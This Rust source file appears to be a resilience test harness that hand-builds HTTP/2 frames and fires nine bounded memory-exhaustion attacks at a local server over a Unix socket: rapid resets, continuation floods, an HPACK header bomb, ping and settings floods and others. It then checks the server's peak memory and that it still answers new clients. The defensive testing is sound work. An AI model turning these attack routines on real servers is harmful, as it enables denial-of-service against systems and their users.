//! A client that means harm: HTTP/2 frames made by hand, at a Unix socket, to have a server keep as much as it will.
//!
//! Each attack is bounded in count and time and stops where the server closes the connection or takes no more.

use std::fs;
use std::io::{ErrorKind, Read as _, Write as _};
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::Path;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use nix::sys::resource::{Resource, getrlimit, setrlimit};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// The largest frame that every server takes.
const FRAME: usize = 16_384;
/// A server that takes nothing for so long has had enough.
const PATIENCE: Duration = Duration::from_secs(2);

/// RFC 9113, section 6: types and flags of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;

/// A way to make a server keep memory; gives the connections, which are open still.
type Attack = fn(&Path, &str) -> Result<Vec<Connection>>;

/// All of them, by name.
pub const ATTACKS: [(&str, Attack); 9] = [
    ("one request with 40,000 header names", many_names),
    ("20,000 requests, each reset at once", resets),
    ("a header block of 64 MB that does not end", endless_headers),
    ("100,000 empty continuations", empty_continuations),
    ("1,280 open requests, each with 4,000 header fields out of the table", header_bomb),
    ("900 connections that say no more than the preface", idle),
    ("200,000 pings without reading", pings),
    ("200,000 settings without reading", settings),
    ("as much data on 2,000 open requests as the windows allow", data),
];

/// A connection with its preface sent.
#[derive(Debug)]
pub struct Connection {
    stream: UnixStream,
}

impl Connection {
    fn open(socket: &Path) -> Result<Self> {
        let stream =
            UnixStream::connect(socket).with_context(|| format!("connect to {}", socket.display()))?;
        stream.set_write_timeout(Some(PATIENCE)).context("limit the time of writes")?;
        stream.set_read_timeout(Some(PATIENCE)).context("limit the time of reads")?;
        let mut connection = Self { stream };
        connection.send(PREFACE)?;
        connection.send(&frame(SETTINGS, 0, 0, &[]))?;
        Ok(connection)
    }

    /// Whether the server took it.
    fn send(&mut self, bytes: &[u8]) -> Result<bool> {
        match self.stream.write_all(bytes) {
            Ok(()) => Ok(true),
            Err(error) if has_ended(error.kind()) => Ok(false),
            Err(error) => Err(error).context("write to the server"),
        }
    }

    /// Returns once the server has taken all that was sent, has closed the connection, or says nothing any more.
    fn settle(&mut self) -> Result<()> {
        const MARK: &[u8] = b"all sent";
        if !self.send(&frame(PING, 0, 0, MARK))? {
            return Ok(());
        }
        let answer = frame(PING, ACK, 0, MARK);
        let (mut read, mut buffer) = (Vec::new(), vec![0; 64 << 10]);
        loop {
            match self.stream.read(&mut buffer) {
                Ok(0) => return Ok(()),
                Ok(count) => read.extend_from_slice(&buffer[..count]),
                Err(error) if has_ended(error.kind()) => return Ok(()),
                Err(error) => return Err(error).context("read from the server"),
            }
            if read.windows(answer.len()).any(|bytes| bytes == answer) {
                return Ok(());
            }
            let kept = read.len().saturating_sub(answer.len());
            read.drain(..kept);
        }
    }
}

fn has_ended(kind: ErrorKind) -> bool {
    matches!(
        kind,
        ErrorKind::BrokenPipe | ErrorKind::ConnectionReset | ErrorKind::WouldBlock | ErrorKind::TimedOut
    )
}

/// Runs every attack at a server, each for itself; none may make the process larger than `max` bytes, and after each the server
/// greets the next client.
pub fn attack_all(socket: &Path, path: &str, pid: u32, max: u64) -> Result<()> {
    for (name, attack) in ATTACKS {
        forget_peak(pid)?;
        let mut connections = attack(socket, path).with_context(|| name.to_owned())?;
        for connection in &mut connections {
            connection.settle().with_context(|| name.to_owned())?;
        }
        let peak = peak(pid).with_context(|| format!("after {name}"))?;
        println!("{name}: {} MiB", peak >> 20);
        ensure!(peak < max, "{name}: {} MiB of {} MiB", peak >> 20, max >> 20);
        drop(connections);
        greets(socket).with_context(|| format!("after {name}"))?;
    }
    Ok(())
}

/// A server that accepts every connection, reads nothing and says nothing, as long as this is there.
#[derive(Debug)]
pub struct Silent {
    directory: tempfile::TempDir,
}

impl Silent {
    /// Listens, with as many descriptors as the process may have.
    pub fn listen() -> Result<Self> {
        let (_, most) = getrlimit(Resource::RLIMIT_NOFILE).context("read RLIMIT_NOFILE")?;
        setrlimit(Resource::RLIMIT_NOFILE, most, most).context("raise RLIMIT_NOFILE")?;
        let directory = tempfile::tempdir_in("/run").context("make the silent server's directory")?;
        let listener = UnixListener::bind(directory.path().join("silent.sock")).context("listen")?;
        // Ends with the process of the test.
        std::thread::spawn(move || {
            let mut kept = Vec::new();
            loop {
                match listener.accept() {
                    Ok((connection, _)) => kept.push(connection),
                    // Without a descriptor to spare, those who come wait.
                    Err(_) => std::thread::park(),
                }
            }
        });
        Ok(Self { directory })
    }

    /// Its socket.
    pub fn socket(&self) -> std::path::PathBuf {
        self.directory.path().join("silent.sock")
    }
}

/// That the server sends its settings to a client that comes now.
fn greets(socket: &Path) -> Result<()> {
    let mut connection = Connection::open(socket)?;
    let mut head = [0; 9];
    connection.stream.set_read_timeout(Some(Duration::from_secs(60))).context("limit the time of reads")?;
    connection.stream.read_exact(&mut head).context("the server does not greet")?;
    ensure!(head[3] == SETTINGS, "the server greets with {head:?}");
    Ok(())
}

/// The largest resident size of a process since [`forget_peak`], bytes.
fn peak(pid: u32) -> Result<u64> {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).context("the server has ended")?;
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).context("no VmHWM")?;
    let kilobytes: u64 = line.trim().trim_end_matches(" kB").parse().with_context(|| line.to_owned())?;
    Ok(kilobytes << 10)
}

/// proc_pid_clear_refs(5).
fn forget_peak(pid: u32) -> Result<()> {
    fs::write(format!("/proc/{pid}/clear_refs"), "5").context("reset the peak of the resident size")
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// RFC 7541, section 6.2.2: a field with a new name that does not enter the table.
fn field(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        // Section 5.1, with a prefix of seven bits.
        match text.len() {
            short @ 0..127 => bytes.push(short as u8),
            long => {
                bytes.push(127);
                let mut rest = long - 127;
                while rest >= 128 {
                    bytes.push((rest % 128 + 128) as u8);
                    rest /= 128;
                }
                bytes.push(rest as u8);
            }
        }
        bytes.extend(text.as_bytes());
    }
    bytes
}

/// The fields of a gRPC request.
fn request(path: &str) -> Vec<u8> {
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    fields.into_iter().flat_map(|(name, value)| field(name, value)).collect()
}

/// A header block in as many frames as it takes; the request has a body to come.
fn headers(stream: u32, block: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut parts = block.chunks(FRAME).peekable();
    let mut kind = HEADERS;
    while let Some(part) = parts.next() {
        let flags = if parts.peek().is_none() { END_HEADERS } else { 0 };
        bytes.extend(frame(kind, flags, stream, part));
        kind = CONTINUATION;
    }
    bytes
}

/// The ids of a client's streams.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|index| 1 + 2 * index)
}

fn many_names(socket: &Path, path: &str) -> Result<Vec<Connection>> {
    let mut connection = Connection::open(socket)?;
    let block: Vec<u8> = (0..40_000).flat_map(|index| field(&format!("x{index:05x}"), "")).collect();
    connection.send(&headers(1, &[request(path), block].concat()))?;
    Ok(vec![connection])
}

fn resets(socket: &Path, path: &str) -> Result<Vec<Connection>> {
    let mut connection = Connection::open(socket)?;
    let block = request(path);
    for id in streams(20_000) {
        let cancel = frame(RST_STREAM, 0, id, &8_u32.to_be_bytes());
        if !connection.send(&[headers(id, &block), cancel].concat())? {
            break;
        }
    }
    Ok(vec![connection])
}

fn endless_headers(socket: &Path, path: &str) -> Result<Vec<Connection>> {
    let mut connection = Connection::open(socket)?;
    let part = field("x", &"y".repeat(FRAME - 100));
    let mut is_open = connection.send(&frame(HEADERS, 0, 1, &request(path)))?;
    for _ in 0..4096 {
        is_open = is_open && connection.send(&frame(CONTINUATION, 0, 1, &part))?;
    }
    Ok(vec![connection])
}

fn empty_continuations(socket: &Path, path: &str) -> Result<Vec<Connection>> {
    let mut connection = Connection::open(socket)?;
    let hundred = frame(CONTINUATION, 0, 1, &[]).repeat(100);
    let mut is_open = connection.send(&frame(HEADERS, 0, 1, &request(path)))?;
    for _ in 0..1000 {
        is_open = is_open && connection.send(&hundred)?;
    }
    Ok(vec![connection])
}

fn header_bomb(socket: &Path, path: &str) -> Result<Vec<Connection>> {
    // Section 6.2.1: into the table; section 6.1: the first entry that is not one of the 61 that everyone has.
    let (entry, reference) = ([&[0x40], &field("a", "b")[1..]].concat(), [0x80 | 62]);
    let bomb = [request(path), reference.repeat(4000)].concat();
    let mut connections = Vec::new();
    for _ in 0..20 {
        let mut connection = Connection::open(socket)?;
        let mut is_open = connection.send(&headers(1, &[request(path), entry.clone()].concat()))?;
        for id in streams(64).skip(1) {
            is_open = is_open && connection.send(&headers(id, &bomb))?;
        }
        connections.push(connection);
    }
    Ok(connections)
}

fn idle(socket: &Path, _: &str) -> Result<Vec<Connection>> {
    (0..900).map(|_| Connection::open(socket)).collect()
}

fn pings(socket: &Path, _: &str) -> Result<Vec<Connection>> {
    flood(socket, &frame(PING, 0, 0, b"12345678"))
}

fn settings(socket: &Path, _: &str) -> Result<Vec<Connection>> {
    flood(socket, &frame(SETTINGS, 0, 0, &[]))
}

/// Frames that each want an answer, from one who reads none.
fn flood(socket: &Path, frame: &[u8]) -> Result<Vec<Connection>> {
    let mut connection = Connection::open(socket)?;
    let many = frame.repeat(500);
    let mut is_open = true;
    for _ in 0..400 {
        is_open = is_open && connection.send(&many)?;
    }
    Ok(vec![connection])
}

fn data(socket: &Path, path: &str) -> Result<Vec<Connection>> {
    let (block, part) = (request(path), vec![b'z'; FRAME]);
    let mut connections = Vec::new();
    for _ in 0..20 {
        let mut connection = Connection::open(socket)?;
        let mut is_open = true;
        for id in streams(100) {
            is_open = is_open && connection.send(&headers(id, &block))?;
            for _ in 0..15 {
                is_open = is_open && connection.send(&frame(DATA, 0, id, &part))?;
            }
        }
        connections.push(connection);
    }
    Ok(connections)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_and_fields_are_as_the_rfcs_show_them() {
        assert_eq!(frame(PING, ACK, 0, b"12345678"), b"\0\0\x08\x06\x01\0\0\0\x0012345678");
        assert_eq!(field("a", "bc"), b"\0\x01a\x02bc");
        // RFC 7541, C.1.2: a length of 1337 = 127 + 1210, of seven bits.
        assert_eq!(field("", &"x".repeat(1337))[..5], [0, 0, 127, 0xba, 0x09]);
        let long = headers(3, &vec![0; FRAME + 1]);
        assert_eq!((long[3], long[4]), (HEADERS, 0));
        assert_eq!(long[9 + FRAME..], frame(CONTINUATION, END_HEADERS, 3, &[0]));
    }
}
